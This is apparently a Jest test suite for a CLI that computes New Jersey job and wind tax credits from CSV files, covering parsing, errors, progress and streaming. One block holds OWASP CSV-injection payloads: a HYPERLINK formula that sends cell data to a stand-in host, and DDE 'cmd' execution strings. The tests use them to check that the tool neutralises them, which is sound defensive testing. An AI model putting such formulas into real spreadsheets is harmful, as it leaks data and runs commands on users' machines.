import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { batchCommand } from "../../src/cli/batch";
import { parse } from "csv-parse/sync";
import { formatCsvRecord } from "../../src/cli/csv";
import { PassThrough, Writable } from "stream";
import { run } from "./runCommand";

let dir: string;
beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "njcredit-batch-"));
});
afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

function file(name: string, text: string): string {
  const p = path.join(dir, name);
  fs.writeFileSync(p, text, "utf8");
  return p;
}

/** Output records as objects keyed by the output header. */
function table(csv: string): Record<string, string>[] {
  // Read by csv-parse directly (strict, as batch reads), not through the code under test.
  const [header, ...rows] = parse(csv, { bom: true, relax_column_count: false }) as string[][];
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

describe("njcredit batch: a mixed portfolio", () => {
  const input =
    "\uFEFFid,calc,location,Small business,new_jobs,retainedJobs,annualCap,firstYear\r\n" +
    "A,,enhanced,TRUE,300,,,\r\n" +
    'B,emerge.annual,enhanced,TRUE,300,50,"1,000,000",\r\n' +
    "C,emerge.schedule,enhanced,TRUE,100;150;300,,,2025\r\n" +
    "D,,enhanced,maybe,300,,,\r\n" +
    ",,,,,,,\r\n" +
    "E,EMERGE.PERJOB,grm,,,,,\r\n" +
    "F,bogus,enhanced,,,,,\r\n";

  test("one output row per scenario, inputs echoed, results appended; BOM kept; exit 0", async () => {
    const out = await run(batchCommand, [file("mixed.csv", input), "--keep", "id"]);
    expect(out.code).toBe(0);
    expect(out.stdout.startsWith("\uFEFF")).toBe(true);
    const lines = out.stdout.slice(1).split("\r\n");
    expect(lines[0]).toBe(
      "id,calc,location,Small business,new_jobs,retainedJobs,annualCap,firstYear," +
        "ok,error_input,error_message,status,per_job_credit,before_cap,annual_credit,credit_by_year,total_credit",
    );
    // A: enhanced 3,500 + (c) 500 + (e) 500 = 4,500.00 per new job.
    expect(lines[1]).toBe("A,,enhanced,TRUE,300,,,,true,,,credit,4500.00,,,,");
    // B: 300 × 4,500 + 50 × 2,250 = 1,350,000 + 112,500 = 1,462,500.00, capped at 1,000,000.00.
    // The grouped cap is echoed quoted, as read.
    expect(lines[2]).toBe(
      'B,emerge.annual,enhanced,TRUE,300,50,"1,000,000",,true,,,,,1462500.00,1000000.00,,',
    );
    // C: 100 × 4,000; 150 × 4,000; 300 × 4,500 (bonus (c) from 251 jobs) = 2,350,000.00.
    expect(lines[3]).toBe(
      "C,emerge.schedule,enhanced,TRUE,100;150;300,,,2025,true,,,,,,,400000.00;600000.00;1350000.00,2350000.00",
    );
    expect(lines[4]).toBe(
      'D,,enhanced,maybe,300,,,,false,smallBusiness,"smallBusiness must be TRUE or FALSE; ""maybe"" is not accepted",,,,,,',
    );
    // The blank row is skipped; E: the calc name is matched case-insensitively; grm base 4,000.
    expect(lines[5]).toBe("E,EMERGE.PERJOB,grm,,,,,,true,,,credit,4000.00,,,,");
    expect(lines[6]).toMatch(
      /^F,bogus,enhanced,,,,,,false,calc,"calc must be one of emerge\.perJob, /,
    );
    expect(lines[7]).toBe("");
    expect(lines.length).toBe(8);
    expect(out.stderr).toBe(
      'njcredit batch: 6 rows; 4 ok; 2 with errors (first: row 5, smallBusiness: smallBusiness must be TRUE or FALSE; "maybe" is not accepted); 1 blank row skipped\n',
    );
  });

  test("--out writes the same CSV to a file", async () => {
    const outPath = path.join(dir, "results.csv");
    const viaStdout = await run(batchCommand, [file("mixed2.csv", input), "--keep", "id"]);
    const out = await run(batchCommand, [
      path.join(dir, "mixed2.csv"),
      "--keep",
      "id",
      "--out",
      outPath,
    ]);
    expect(out.code).toBe(0);
    expect(out.stdout).toBe("");
    expect(fs.readFileSync(outPath, "utf8")).toBe(viaStdout.stdout);
    expect(out.stderr).toContain(`6 rows → ${outPath}; 4 ok`);
  });

  test("wind rows get the wind columns", async () => {
    // Owner, capital investment 80,000,000, 300 approved jobs (default): 100% of the base,
    // 80,000,000.00, one fifth a year: 16,000,000.00 in each compliance year the jobs are met.
    const out = await run(batchCommand, ["-"], {
      stdin:
        "calc,role,capitalInvestment,employment\nwind.schedule,owner,80000000,310;320;330;340;350\n",
    });
    expect(out.code).toBe(0);
    const [row] = table(out.stdout);
    expect(row).toMatchObject({
      ok: "true",
      eligible: "true",
      credit_base: "80000000.00",
      total_credit: "80000000.00",
      allowed_by_year: "16000000.00;16000000.00;16000000.00;16000000.00;16000000.00",
      allowed_total: "80000000.00",
      forfeited_total: "0.00",
      pending_total: "0.00",
    });
  });

  test("a wind row's blank role is an error naming role, as in Excel, never the owner's credit", async () => {
    // A tenant's row with its role cell left empty: read as an owner it would be credited
    // 80,000,000.00; the same blank is #VALUE! in NJWIND.SCHEDULE (functions.test.ts).
    const out = await run(batchCommand, ["-"], {
      stdin: "calc,role,capitalInvestment\nwind.schedule,,80000000\nwind.schedule,owner,80000000\n",
    });
    const [blank, owner] = table(out.stdout);
    expect(blank).toMatchObject({ ok: "false", error_input: "role" });
    expect(blank.error_message).toMatch(/^role is required: "owner" or "tenant"/);
    expect(blank.total_credit).toBe("");
    expect(owner).toMatchObject({ ok: "true", total_credit: "80000000.00" });
  });
});

describe("njcredit batch: CSV edge cases", () => {
  test("quoted fields with commas and quotes are echoed intact", async () => {
    const out = await run(batchCommand, ["-", "--keep", "note"], {
      stdin: 'note,location,newJobs\r\n"Smith, ""J""",other,"1,000"\r\n',
    });
    expect(out.code).toBe(0);
    const [row] = table(out.stdout);
    // other: 500 + (c) 801–1,000 band 1,250 = 1,750.00 (the quoted grouped count is one number).
    expect(row).toMatchObject({
      note: 'Smith, "J"',
      ok: "true",
      per_job_credit: "1750.00",
    });
  });

  test("a cell spanning lines is refused, naming its line: it is how an open quote swallows rows", async () => {
    // An open quote on line 3 pairs with the stray quote before the comma on line 5: no CSV
    // error, but the scenarios of lines 4 and 5 would vanish into one note. Refused instead.
    const stdin =
      "note,location,newJobs\n" +
      "a,enhanced,300\n" +
      '"b,enhanced,300\n' +
      "c,enhanced,300\n" +
      'd",enhanced,300\n' +
      "e,enhanced,300\n";
    const out = await run(batchCommand, ["-", "--keep", "note"], { stdin });
    expect(out.code).toBe(1);
    expect(out.stderr).toContain(
      "standard input, line 3: cell 1 of the row that starts on this line spans several lines",
    );
    expect(out.stderr).toContain("the output above is incomplete (1 result row before this line)");
  });

  test("a header cell spanning lines is refused too, and --out then writes nothing", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "njcredit-batch-"));
    const outPath = path.join(dir, "out.csv");
    const out = await run(batchCommand, ["-", "--out", outPath], {
      stdin: '"loca\ntion",newJobs\nenhanced,300\n',
    });
    expect(out.code).toBe(1);
    expect(out.stderr).toContain("standard input, line 1: cell 1 of the row");
    expect(out.stderr).toContain(`nothing was written to ${outPath}`);
    expect(fs.existsSync(outPath)).toBe(false);
  });

  test("a row with more fields than the header, or a value under an unnamed column, is an error row", async () => {
    const out = await run(batchCommand, ["-"], {
      stdin: "location,newJobs,\nenhanced,300,\nenhanced,300,x\nenhanced,300,,extra\n",
    });
    expect(out.code).toBe(0);
    const rows = table(out.stdout);
    expect(rows.map((r) => r.ok)).toEqual(["true", "false", "false"]);
    expect(rows[1].error_message).toBe('column 3 has a value ("x") but no name in the header row');
    expect(rows[2].error_message).toBe("the row has 4 fields but the header has 3 columns");
  });

  test("a header column that is no input stops the run before any row, with a suggestion", async () => {
    const out = await run(batchCommand, ["-"], { stdin: "location,smallBusines\nenhanced,TRUE\n" });
    expect(out.code).toBe(1);
    expect(out.stdout).toBe("");
    expect(out.stderr).toContain(
      'column "smallBusines" is not an input of any calculation; did you mean "smallBusiness"?',
    );
  });

  test("an input of another calculation is an error only where the row gives it a value", async () => {
    const out = await run(batchCommand, ["-"], {
      stdin: "calc,location,role\nemerge.perJob,enhanced,\nemerge.perJob,enhanced,owner\n",
    });
    const rows = table(out.stdout);
    expect(rows.map((r) => r.ok)).toEqual(["true", "false"]);
    expect(rows[1].error_input).toBe("role");
  });

  test("an unclosed quote, an empty file, a missing file: exit 1 with the reason", async () => {
    const unclosed = await run(batchCommand, ["-"], { stdin: 'location,newJobs\nenhanced,"300\n' });
    expect(unclosed.code).toBe(1);
    expect(unclosed.stderr).toContain("line 2: a quoted field is never closed");
    const empty = await run(batchCommand, ["-"], { stdin: "" });
    expect(empty.code).toBe(1);
    expect(empty.stderr).toContain("the file is empty");
    const missing = await run(batchCommand, [path.join(dir, "nope.csv")]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain("cannot read");
    const unwritable = await run(
      batchCommand,
      ["-", "--out", path.join(dir, "no-such-dir", "out.csv")],
      {
        stdin: "location\nenhanced\n",
      },
    );
    expect(unwritable.code).toBe(1);
    expect(unwritable.stderr).toContain("cannot write");
  });

  test("usage errors: no file, two files, --out onto the input", async () => {
    expect((await run(batchCommand, [])).code).toBe(2);
    expect((await run(batchCommand, ["a.csv", "b.csv"])).code).toBe(2);
    const same = await run(batchCommand, [
      file("same.csv", "location\nenhanced\n"),
      "--out",
      path.join(dir, "same.csv"),
    ]);
    expect(same.code).toBe(2);
    expect(same.stderr).toContain("is the scenarios file itself");
    expect(fs.readFileSync(path.join(dir, "same.csv"), "utf8")).toBe("location\nenhanced\n");
  });

  test("--help", async () => {
    const out = await run(batchCommand, ["--help"]);
    expect(out.code).toBe(0);
    expect(out.stdout).toContain("Usage: njcredit batch");
    expect(out.stdout).toContain("njcredit batch scenarios.csv --out results.csv");
  });
});

describe("njcredit batch: progress on long runs", () => {
  const many = (n: number) => "location,newJobs\n" + "enhanced,300\n".repeat(n);

  // Rows are counted as they are computed (the total is not known before the input ends).
  test("to a log (not a terminal): a line every 1,000 rows, then the summary", async () => {
    const out = await run(batchCommand, ["-"], { stdin: many(2500) });
    expect(out.code).toBe(0);
    expect(out.stderr).toBe(
      "njcredit batch: 1,000 rows\n" +
        "njcredit batch: 2,000 rows\n" +
        "njcredit batch: 2,500 rows; 2,500 ok; 0 with errors\n",
    );
    expect(table(out.stdout)).toHaveLength(2500);
  });

  test("from a file: with the share of the file read so far", async () => {
    // 17 header bytes + 13 bytes a row: row 1,000 ends at byte 13,017 of 32,517 (40.03%),
    // row 2,000 at 26,017 (80.01%).
    const out = await run(batchCommand, [file("progress.csv", many(2500))]);
    expect(out.stderr).toBe(
      "njcredit batch: 1,000 rows (40% of the file)\n" +
        "njcredit batch: 2,000 rows (80% of the file)\n" +
        "njcredit batch: 2,500 rows; 2,500 ok; 0 with errors\n",
    );
  });

  test("on a terminal: one line rewritten with \\r, cleared before the summary", async () => {
    const out = await run(batchCommand, ["-"], { stdin: many(250), tty: 100 });
    expect(out.stderr).toBe(
      "\rnjcredit batch: 100 rows\rnjcredit batch: 200 rows\r\x1b[K" +
        "njcredit batch: 250 rows; 250 ok; 0 with errors\n",
    );
  });

  test("--quiet: only the summary", async () => {
    const out = await run(batchCommand, ["-", "--quiet"], { stdin: many(1000) });
    expect(out.stderr).toBe("njcredit batch: 1,000 rows; 1,000 ok; 0 with errors\n");
  });
});

describe("njcredit batch: no cell of the output runs as a formula (issue 10 item 6)", () => {
  // OWASP's CSV injection payloads, in a kept column and in echoed inputs.
  const payloads = [
    '=HYPERLINK("http://x.test/?"&A3,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
  ];

  test("kept columns and echoed inputs get a leading ', numbers stay numbers", async () => {
    const rows = payloads.map((p) => `${formatCsvRecord([p, "enhanced", p])}`);
    const out = await run(batchCommand, ["-", "--keep", "note"], {
      stdin: "note,location,newJobs\r\n" + rows.join("") + "-1500.00,enhanced,-3\r\n",
    });
    expect(out.code).toBe(0);
    const lines = out.stdout.split("\r\n");
    expect(
      lines[1].startsWith(
        `"'=HYPERLINK(""http://x.test/?""&A3,""x"")",enhanced,"'=HYPERLINK(""http://x.test/?""&A3,""x"")",false,newJobs,`,
      ),
    ).toBe(true);
    const result = table(out.stdout);
    expect(result.map((r) => r.note)).toEqual([...payloads.map((p) => `'${p}`), "-1500.00"]);
    expect(result.map((r) => r.newJobs)).toEqual([...payloads.map((p) => `'${p}`), "-3"]);
    // Every cell of the output, the error messages (which quote the input) included.
    for (const line of lines.slice(1, -1)) {
      for (const cell of parse(line, { relax_column_count: true })[0] as string[]) {
        expect(/^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell)).toBe(false);
      }
    }
    expect(result[5]).toMatchObject({ ok: "false", error_input: "newJobs", newJobs: "-3" });
  });

  test("a header, and an error message that begins with the user's text, are neutralised too", async () => {
    const out = await run(batchCommand, ["-", "--keep", "=cmd"], {
      stdin: "=cmd,location\r\n1,enhanced\r\n",
    });
    expect(out.code).toBe(0);
    expect(out.stdout.split("\r\n")[0]).toBe(
      "'=cmd,location,ok,error_input,error_message,status,per_job_credit",
    );
  });

  test("--help and the README say so", async () => {
    const out = await run(batchCommand, ["--help"]);
    expect(out.stdout.replace(/\s+/g, " ")).toContain(
      "A cell of the output that a spreadsheet would run as a formula (it begins with =, +, -, @, a tab or a carriage return and is not a number) is written with a ' before it",
    );
    const readme = fs.readFileSync(path.join(__dirname, "../../README.md"), "utf8");
    expect(readme.replace(/\s+/g, " ")).toContain(
      "is written with a `'` before it, so it shows as text",
    );
  });
});

describe("njcredit batch: a column named twice is refused (issue 10 item 7)", () => {
  test.each([
    [
      "location,location",
      "location,location\nenhanced,grm\n",
      'columns 1 ("location") and 2 ("location") are both the input location',
    ],
    [
      "newJobs,NEW JOBS",
      "location,newJobs,NEW JOBS\nenhanced,300,30\n",
      'columns 2 ("newJobs") and 3 ("NEW JOBS") are both the input newJobs',
    ],
    [
      "new_jobs, new-Jobs and newJobs",
      "new_jobs,location,new-Jobs,newJobs\n300,enhanced,30,3\n",
      'columns 1 ("new_jobs"), 3 ("new-Jobs") and 4 ("newJobs") are all the input newJobs',
    ],
    [
      "two calc columns",
      "calc,location,CALC\nemerge.perJob,enhanced,emerge.annual\n",
      'columns 1 ("calc") and 3 ("CALC") are both the calc column',
    ],
  ])("%s: exit 1, nothing computed, the columns named", async (_, stdin, message) => {
    const out = await run(batchCommand, ["-"], { stdin });
    expect(out.code).toBe(1);
    expect(out.stdout).toBe("");
    expect(out.stderr).toBe(
      `njcredit batch: the header names a column more than once: ${message}. Give each column once (names match ignoring case, spaces, _ and -); nothing was computed\n`,
    );
  });

  test("a kept column twice, too; and no results file is written", async () => {
    const outPath = path.join(dir, "dup-out.csv");
    const out = await run(batchCommand, ["-", "--keep", "id", "--out", outPath], {
      stdin: "id,location,ID\n1,enhanced,2\n",
    });
    expect(out.code).toBe(1);
    expect(out.stderr).toContain('columns 1 ("id") and 3 ("ID") are both the column id');
    expect(fs.existsSync(outPath)).toBe(false);
  });
});

describe("njcredit batch: malformed CSV is refused, never guessed (issue 10 item 8)", () => {
  // 6 scenarios; the quote opened on line 3 is never closed. Read leniently, it paired with the
  // quote on line 6 and rows 4 to 6 vanished into one field, with exit 0.
  const unclosed =
    "id,location,newJobs\n" +
    "A,enhanced,300\n" +
    'B,"enhanced,300\n' +
    "C,enhanced,300\n" +
    "D,enhanced,300\n" +
    'E,"grm",300\n' +
    "F,enhanced,300\n";

  test("an unclosed quote that pairs with a later one: exit 1, naming the line it opened on", async () => {
    const out = await run(batchCommand, ["-", "--keep", "id"], { stdin: unclosed });
    expect(out.code).toBe(1);
    expect(out.stderr).toMatch(
      /^njcredit batch: standard input, line 3: in the row that starts on this line, a quoted field is followed by "g" after its closing quote;/,
    );
    expect(out.stderr).toContain(
      'a " left open pairs with a later one and swallows the rows between',
    );
    expect(out.stderr).not.toContain("ok;");
  });

  test("with --out: no results file, and an earlier one is left as it was", async () => {
    const outPath = path.join(dir, "refused.csv");
    fs.writeFileSync(outPath, "earlier results\r\n");
    const out = await run(batchCommand, [
      file("unclosed.csv", unclosed),
      "--keep",
      "id",
      "--out",
      outPath,
    ]);
    expect(out.code).toBe(1);
    expect(out.stderr).toContain(`unclosed.csv, line 3: `);
    expect(out.stderr).toContain(`the file is refused; nothing was written to ${outPath}`);
    expect(fs.readFileSync(outPath, "utf8")).toBe("earlier results\r\n");
    expect(fs.readdirSync(dir).filter((f) => f.includes("partial"))).toEqual([]);
  });

  test("a quote that never closes, on a later line than the header", async () => {
    const out = await run(batchCommand, ["-"], {
      stdin: 'location,newJobs\nenhanced,300\nenhanced,300\nenhanced,"300\nenhanced,300\n',
    });
    expect(out.code).toBe(1);
    expect(out.stderr).toContain("standard input, line 4: a quoted field is never closed");
    expect(out.stderr).toContain(
      "the file is refused; the output above is incomplete (2 result rows before this line)",
    );
  });

  test("a quote inside an unquoted field: exit 1, naming the line and how to write it", async () => {
    const out = await run(batchCommand, ["-", "--keep", "note"], {
      stdin: 'note,location\nfine,enhanced\n5" pipe,enhanced\n',
    });
    expect(out.code).toBe(1);
    expect(out.stderr).toContain(
      'standard input, line 3: in the row that starts on this line, a " is inside a field that does not start with one (after "5"); a field holding a quote must be written in quotes, with the quote doubled ("5"" pipe")',
    );
  });

  test("the line named is where the multi-line cell starts (the reader counts quoted line breaks)", async () => {
    const out = await run(batchCommand, ["-", "--keep", "note"], {
      stdin: 'note,location\r\nok,enhanced\r\n"two\r\nlines",enhanced\r\nnext,enhanced\r\n',
    });
    expect(out.code).toBe(1);
    expect(out.stderr).toContain(
      "standard input, line 3: cell 1 of the row that starts on this line",
    );
  });

  test("a row with fewer cells than the header: the missing cells are not given (as Excel drops trailing empty cells)", async () => {
    // enhanced 3,500 + (c) 500 (251+ new jobs) = 4,000.00; without newJobs, 3,500.00.
    const out = await run(batchCommand, ["-"], {
      stdin: "location,smallBusiness,newJobs\nenhanced,,300\nenhanced\n",
    });
    expect(out.code).toBe(0);
    expect(table(out.stdout).map((r) => [r.ok, r.per_job_credit, r.newJobs])).toEqual([
      ["true", "4000.00", "300"],
      ["true", "3500.00", ""],
    ]);
  });
});

describe("njcredit batch: rows stream through (issue 10 item 9)", () => {
  test("the first result row is written before the input ends", async () => {
    const stdin = new PassThrough();
    const chunks: string[] = [];
    let seen: () => void = () => {};
    const stdout = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        chunks.push(chunk.toString());
        seen();
        callback();
      },
    });
    const stderr = new Writable({ write: (_c, _e, callback) => callback() });
    const done = batchCommand.run(["-"], { stdin, stdout, stderr });
    /** Resolves once stdout holds `text`; fails (rather than hang) if it never comes. */
    const output = (text: string) =>
      new Promise<void>((resolve, reject) => {
        const check = () => chunks.join("").includes(text) && resolve();
        seen = check;
        check();
        done.then(() => reject(new Error(`the run ended without writing ${text}`)));
        // Not a speed assertion: a reader of the whole input first never writes before its end.
        setTimeout(() => reject(new Error(`no "${text}" before the input ended`)), 10_000);
      });
    // The parser holds a row until the next bytes show that its line break is not the start of
    // a CRLF, so each row's result follows the next row's arrival (never the input's end).
    stdin.write("location,newJobs\n");
    stdin.write("enhanced,300\n");
    stdin.write("grm,300\n");
    // enhanced 3,500 + (c) 500 for 251-400 new jobs = 4,000.00.
    await output("enhanced,300,true,,,credit,4000.00\r\n");
    stdin.write("other,300\n");
    // grm 4,000 + (c) 500 = 4,500.00.
    await output("grm,300,true,,,credit,4500.00\r\n");
    stdin.end();
    expect(await done).toBe(0);
  });

  test("memory does not grow with the number of rows (the command's live heap, 5,000 and 50,000 rows)", () => {
    // Measures memory, not time. The 1,000,000-row figure is in `npm run bench` (batch.bench.ts).
    // The child samples its live heap (after a full collection) as it runs, and its peak RSS.
    const probe =
      "let peak = 0;" +
      "const sample = () => { global.gc(); peak = Math.max(peak, process.memoryUsage().heapUsed); };" +
      "setInterval(sample, 100).unref();" +
      "process.on('exit', () => { sample(); process.stderr.write('heap ' + peak + ' rss ' + process.resourceUsage().maxRSS * 1024 + '\\n'); });" +
      "require('./src/cli/main').main(process.argv.slice(1));";
    const measure = (rows: number) => {
      const input = path.join(dir, `rows-${rows}.csv`);
      const output = path.join(dir, `rows-${rows}.out.csv`);
      fs.writeFileSync(
        input,
        "id,location,smallBusiness,newJobs\n" +
          Array.from({ length: rows }, (_, i) => `P${i},enhanced,TRUE,${i % 1000}\n`).join(""),
      );
      const r = spawnSync(
        process.execPath,
        ["--expose-gc", "-r", "ts-node/register/transpile-only", "-e", probe].concat([
          "batch",
          input,
          "--keep",
          "id",
          "--quiet",
          "--out",
          output,
        ]),
        { cwd: path.resolve(__dirname, "../.."), encoding: "utf8" },
      );
      expect(r.stderr).toContain(`njcredit batch: ${rows.toLocaleString("en-US")} rows`);
      expect(r.status).toBe(0);
      expect(fs.readFileSync(output, "utf8").split("\r\n")).toHaveLength(rows + 2);
      const [, heap, rss] = /heap (\d+) rss (\d+)/.exec(r.stderr)!.map(Number);
      return { heapMB: heap / 2 ** 20, rssMB: rss / 2 ** 20 };
    };
    const small = measure(5_000);
    const large = measure(50_000);
    console.log(
      `batch: live heap ${small.heapMB.toFixed(1)} MB / ${large.heapMB.toFixed(1)} MB, ` +
        `peak RSS ${small.rssMB.toFixed(0)} MB / ${large.rssMB.toFixed(0)} MB (5,000 / 50,000 rows)`,
    );
    // Read whole (before issue 10), the live heap held every row: about 25 MB more for 50,000.
    expect(large.heapMB - small.heapMB).toBeLessThan(10);
    expect(large.rssMB).toBeLessThan(300);
  });
});
